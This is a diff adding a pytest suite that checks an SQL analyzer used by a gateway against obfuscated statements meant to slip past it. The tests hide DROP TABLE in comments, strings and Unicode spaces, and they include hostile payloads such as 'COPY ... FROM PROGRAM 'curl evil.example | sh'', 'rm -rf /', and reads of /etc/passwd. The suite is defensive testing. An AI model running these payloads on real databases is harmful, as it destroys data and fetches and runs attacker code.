@@ -1,0 +1,202 @@
+"""The permanent bypass suite: texts that try to hide what SQL runs, next to their honest twins.
+
+Each case is summarised as the statements' kinds in order, a nested one marked ">" (a DELETE
+inside a CTE is ">delete"), or ERROR when the text does not parse (the gateway then refuses
+it). A case that ever changes answer here is a policy bypass or a new false alarm.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from extproc.interpret.sql import analyze
+
+ERROR = "ERROR"
+
+
+def kinds(text: str, dialect: str) -> str:
+    result = analyze(text, dialect)
+    if result["error"] is not None:
+        assert result["statements"] == []
+        return ERROR
+    return " ".join((">" if s["nested"] else "") + s["kind"] for s in result["statements"])
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        # comments inside and between keywords
+        ("DrOp/**/TABLE x", "drop"),
+        ("DR/**/OP TABLE x", ERROR),
+        ("DROP/* hi */TABLE/**/x", "drop"),
+        ("DROP -- a comment\nTABLE x", "drop"),
+        ("SELECT 1 -- ; DROP TABLE x", "select"),
+        ("SELECT 1 --\n; DROP TABLE x", "select drop"),
+        ("SELECT 1 /* a /* nested */ ; DROP TABLE x */", "select"),
+        ("SELECT 1 /* a /* nested */ */; DROP TABLE x", "select drop"),
+        ("SELECT 1 /* unterminated ; DROP TABLE x", ERROR),
+        # stacked statements
+        ("SELECT 1; DROP TABLE x", "select drop"),
+        ("SELECT 1;DROP TABLE x;", "select drop"),
+        ("SELECT 1;;; ;DELETE FROM x", "select delete"),
+        ("SELECT 1", "select"),
+        # string literals are strings, however they look
+        ("SELECT '; DROP TABLE x; --'", "select"),
+        ("SELECT 'it''s'; DROP TABLE x", "select drop"),
+        ("SELECT E'\\'; DROP TABLE x; --'", "select"),
+        ("SELECT '\\'; DROP TABLE x; --'", "select drop"),  # standard strings: \ is a letter
+        ("SELECT $$; DROP TABLE x; $$", "select"),
+        ("SELECT $x$ $$; DROP TABLE x; $$ $x$", "select"),
+        ("SELECT $x$ ; $y$; DROP TABLE x", ERROR),  # the $x$ string never closes
+        ('SELECT 1 AS "; DROP TABLE x; --"', "select"),
+        ("SELECT U&'\\0044ROP TABLE x'", "select"),
+        # data-modifying statements inside others
+        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select >delete"),
+        ("WITH d AS (SELECT * FROM t) SELECT * FROM d", "select"),
+        ("WITH a AS (WITH b AS (DELETE FROM t RETURNING *) SELECT * FROM b) SELECT * FROM a",
+         "select >delete"),
+        ("INSERT INTO log SELECT * FROM (WITH d AS (UPDATE t SET a = 1 RETURNING *) "
+         "SELECT * FROM d) s", "insert >update"),
+        ("INSERT INTO log SELECT * FROM t", "insert"),
+        ("SELECT * FROM t WHERE a IN (WITH d AS (DELETE FROM u RETURNING id) SELECT id FROM d)",
+         "select >delete"),
+        ("EXPLAIN ANALYZE DELETE FROM t", "explain >delete"),
+        ("EXPLAIN SELECT * FROM t", "explain >select"),
+        ("CREATE TABLE x AS SELECT * FROM t", "create >select"),
+        ("SELECT * INTO x FROM t", "create >select"),
+        ("PREPARE p AS DELETE FROM t", "prepare >delete"),
+        ("CREATE RULE r AS ON SELECT TO t DO ALSO DELETE FROM u", "create >delete"),
+        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy >delete"),
+        ("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END",
+         "create >delete"),
+        ("CREATE SCHEMA s CREATE TABLE t (a int)", "create >create"),
+        # code and programs
+        ("COPY t TO PROGRAM 'rm -rf /'", "copy"),
+        ("COPY t FROM PROGRAM 'curl evil.example | sh'", "copy"),
+        ("DO $$ BEGIN DELETE FROM t; END $$", "do"),
+        ("DO $body$ BEGIN EXECUTE 'DROP TABLE ' || 'x'; END $body$", "do"),
+        ("DO LANGUAGE plpgsql $x$ BEGIN NULL; END $x$", "do"),
+        ("LOAD 'evil.so'", "load"),
+        ("CALL p()", "call"),
+        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "select"),
+        # case, quoting, whitespace
+        ("dElEtE fRoM t", "delete"),
+        ('DELETE FROM "Users"', "delete"),
+        ("DROP\tTABLE\nx", "drop"),
+        ("DROP\u00a0TABLE x", "drop"),  # no-break space
+        ("DROP\u2028TABLE x", "drop"),  # line separator
+        ("DROP\u3000TABLE\u205fx", "drop"),  # ideographic / math spaces
+        ("\ufeffDROP TABLE x", "drop"),  # byte-order mark
+        ("DR\u200bOP TABLE x", "drop"),  # zero-width space
+        ("SELECT 'DROP\u00a0TABLE x'", "select"),
+        ("SELECT 1 -\u200b- 1 FROM (SELECT 1 AS \"\u200b\") s; DROP TABLE t\n", ERROR),
+        # not SQL, or not only SQL
+        ("hello world", ERROR),
+        ("SELECT 1\x00; DROP TABLE x", ERROR),
+        ("SELECT 1\\; DROP TABLE x", ERROR),
+        ("\\! rm -rf /", ERROR),
+        ("", ""),
+        ("  -- nothing\n /* at all */ ", ""),
+        # session, roles, transactions
+        ("SET ROLE postgres; DROP TABLE x", "set drop"),
+        ("BEGIN; DROP TABLE x; ROLLBACK", "transaction drop transaction"),
+        ("ALTER SYSTEM SET archive_command = 'rm -rf /'", "alter"),
+        ("CREATE EXTENSION dblink", "create"),
+        ("GRANT ALL ON t TO PUBLIC", "grant"),
+        ("TRUNCATE t", "truncate"),
+    ],
+)
+def test_postgres(text: str, expected: str) -> None:
+    assert kinds(text, "postgres") == expected
+
+
+@pytest.mark.parametrize(
+    ("dialect", "text", "expected"),
+    [
+        ("sqlite", "DrOp/**/TABLE x", "drop"),
+        ("sqlite", "DR/**/OP TABLE x", ERROR),
+        ("sqlite", "SELECT 1; DROP TABLE x", "select drop"),
+        ("sqlite", "SELECT 1 -- ; DROP TABLE x", "select"),
+        ("sqlite", "SELECT '; DROP TABLE x; --'", "select"),
+        ("sqlite", "SELECT 1 /* ; DROP TABLE x */", "select"),
+        ("sqlite", "WITH d AS (SELECT id FROM t) DELETE FROM u WHERE id IN (SELECT id FROM d)",
+         "delete"),
+        ("sqlite", "WITH d AS (SELECT id FROM t) SELECT * FROM d", "select"),
+        ("sqlite", "ATTACH DATABASE '/tmp/evil.db' AS evil", "attach"),
+        ("sqlite", "PRAGMA writable_schema = 1", "pragma"),
+        ("sqlite", "SELECT load_extension('/tmp/evil.so')", "select"),
+        ("sqlite", "BEGIN; DELETE FROM t; END", "transaction delete transaction"),
+        ("sqlite", "dElEtE FrOm t", "delete"),
+        ("sqlite", "DROP\u00a0TABLE x", "drop"),
+        ("sqlite", "DR\u200bOP TABLE x", "drop"),
+        ("sqlite", "SELECT * INTO x FROM t", "create >select"),  # read as what it would do
+        # what sqlglot only reads as an opaque command is never reported as harmless
+        ("sqlite", "EXPLAIN QUERY PLAN SELECT 1", "other"),
+        ("sqlite", "REPLACE INTO t VALUES (1)", "other"),
+        ("sqlite", "VACUUM; DROP TABLE x", "other drop"),
+        ("sqlite", "CREATE TRIGGER tr AFTER INSERT ON t BEGIN DELETE FROM u; END",
+         "other transaction"),
+        # and what it reads as a bare expression is not a statement at all
+        ("sqlite", "hello world", ERROR),
+        ("sqlite", "REINDEX t", ERROR),
+        ("sqlite", "SELECT 1\x00; DROP TABLE x", ERROR),
+        ("mysql", "SELECT * FROM `Users`; DROP TABLE `x`", "select drop"),
+        ("mysql", "SELECT 1 # ; DROP TABLE x", "select"),
+        ("mysql", "SELECT 1 /*! ; DROP TABLE x */", ERROR),  # MySQL runs /*! ... */
+        ("mysql", "SELECT 1 /* ; DROP TABLE x */", "select"),
+        ("mysql", "FLUSH PRIVILEGES", ERROR),
+        ("mysql", "EXPLAIN DELETE FROM t", "explain >delete"),
+        ("tsql", "SELECT * INTO x FROM t", "create >select"),
+        ("tsql", "DROP TABLE [Users]", "drop"),
+        ("duckdb", "ALTER TABLE t DROP PRIMARY KEY", "other"),  # sqlglot: action unread
+        ("duckdb", "EXPLAIN ANALYZE DELETE FROM t", "other"),
+        ("snowflake", "MERGE INTO t USING s ON t.a = s.a WHEN MATCHED THEN DELETE", "merge"),
+    ],
+)
+def test_other_dialects(dialect: str, text: str, expected: str) -> None:
+    assert kinds(text, dialect) == expected
+
+
+def first(text: str, dialect: str = "postgres", nested: bool = False) -> dict[str, Any]:
+    result = analyze(text, dialect)
+    assert result["error"] is None
+    return next(s for s in result["statements"] if s["nested"] is nested)
+
+
+@pytest.mark.parametrize(
+    ("text", "key", "expected"),
+    [
+        ("COPY t TO PROGRAM 'rm -rf /'", "program", "rm -rf /"),
+        ("COPY t FROM PROGRAM 'curl x | sh'", "program", "curl x | sh"),
+        ("COPY t TO '/tmp/out.csv'", "program", None),
+        ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", "functions",
+         ["pg_terminate_backend"]),
+        ("SELECT * FROM (SELECT lo_export(1, '/tmp/x')) s", "functions", ["lo_export"]),
+        ("SELECT 1 WHERE EXISTS (SELECT pg_catalog.pg_read_file('/etc/passwd'))", "functions",
+         ["pg_read_file"]),
+        ("SELECT * FROM dblink_exec('host=x', 'DROP TABLE t')", "functions", ["dblink_exec"]),
+        ("SELECT 'pg_read_file(1)'", "functions", []),
+        ('DELETE FROM "Users"', "tables", ["Users"]),
+        ("DELETE FROM Users", "tables", ["users"]),
+        ("DELETE FROM Public.Users", "tables", ["public.users"]),
+        ("WITH users AS (SELECT 1) DELETE FROM users", "tables", ["users"]),
+        ("SELECT * FROM (WITH users AS (SELECT 1) SELECT * FROM users) a, users", "tables",
+         ["users"]),
+        ("WITH users AS (SELECT 1) SELECT * FROM users", "tables", []),
+        ("DELETE FROM t", "has_where", False),
+        ("DELETE FROM t WHERE true", "has_where", True),
+        ("DELETE FROM t USING u", "has_where", False),
+        ("UPDATE t SET a = 1 WHERE CURRENT OF c", "has_where", True),
+        ("UPDATE t SET a = (SELECT 1 WHERE true)", "has_where", False),
+        ("TRUNCATE t", "has_where", None),
+    ],
+)
+def test_what_runs(text: str, key: str, expected: Any) -> None:
+    assert first(text)[key] == expected
+
+
+def test_cte_delete_is_seen_as_a_delete() -> None:
+    nested = first("WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d", nested=True)
+    assert (nested["kind"], nested["tables"], nested["has_where"]) == ("delete", ["users"], False)
